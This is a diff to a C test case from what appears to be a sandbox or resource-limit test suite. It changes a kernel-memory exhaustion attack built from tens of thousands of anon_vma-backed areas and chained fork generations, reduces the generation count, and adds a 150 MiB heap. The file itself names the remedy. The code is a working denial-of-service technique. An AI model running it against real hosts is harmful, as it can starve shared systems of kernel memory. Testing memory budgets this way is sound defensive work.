@@ -6,15 +6,15 @@
  * Means: an area that was written to has an anon_vma, and keeps it when its pages are given back; a
  *        copy of it, by fork(2), has one of its own and a link to that of each ancestor. In the
  *        tenth generation an area takes 900 bytes of the kernel's in place of 200, and none of them
- *        is in anybody's resident memory.
+ *        is in anybody's resident memory. A heap is there besides.
  */
 #include "attacks/attack.h"
+#include "attacks/memory-bomb/heap.h"
 
 #include <sys/mman.h>
 #include <unistd.h>
 
-enum { AREAS = 32000, GENERATIONS = 14, STEP = 1000 };
-#define PAGE 4096l
+enum { AREAS = 32000, GENERATIONS = 9, STEP = 1000, HEAP_MIB = 150 };
 
 static enum claim run(const struct brief *b)
 {
@@ -36,13 +36,11 @@ static enum claim run(const struct brief *b)
 		pid_t child = fork();
 
 		if (child < 0)
-			return i ? CLAIM_DONE : denied("fork");
-		if (child > 0) {
-			sleep(5);
-			if (i)
-				_exit(0);
-			return CLAIM_DONE;
-		}
+			return denied("fork");
+		if (child > 0 && i)
+			_exit((int)sleep(5));
+		if (child > 0)
+			return take_heap(HEAP_MIB << 20) ? hold() : denied("malloc");
 	}
 	sleep(5);
 	_exit(0);
@@ -50,7 +48,7 @@ static enum claim run(const struct brief *b)
 
 const struct attack attack = {
 	.effect = "more of the kernel's memory than the budget",
-	.means = "32000 areas with an anon_vma each, in 14 generations that link to all before",
+	.means = "32000 areas with an anon_vma each, in 9 generations that link to all before, beside a heap",
 	.oracle = "usage:memory",
 	.attack_id = "T1499.001, CWE-770",
 	.remedy = "count an area as what it costs in its generation; deny fork; a memory cgroup",
